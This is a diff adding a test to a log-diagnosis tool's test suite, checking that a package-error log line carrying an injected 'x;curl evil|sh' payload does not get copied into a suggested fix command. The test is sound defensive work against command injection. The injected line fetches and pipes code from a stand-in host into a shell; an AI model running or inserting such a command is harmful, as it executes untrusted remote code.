@@ -78,4 +78,10 @@ describe('forms of a log', () => {
     expect(first?.code).toBe('git-repository-unreadable');
     expect(JSON.stringify(first)).not.toContain('ghp_abcdef');
   });
+
+  it('puts no words of a stranger into a command', async () => {
+    const [first] = await diagnoseBytes('E: Unable to locate package x;curl\u2009evil|sh\n');
+    const commands = first?.fixes.map(({ command }) => command ?? '') ?? [];
+    expect(commands[0]).toBe('apt-get update && apt-get install -y NAME');
+  });
 });
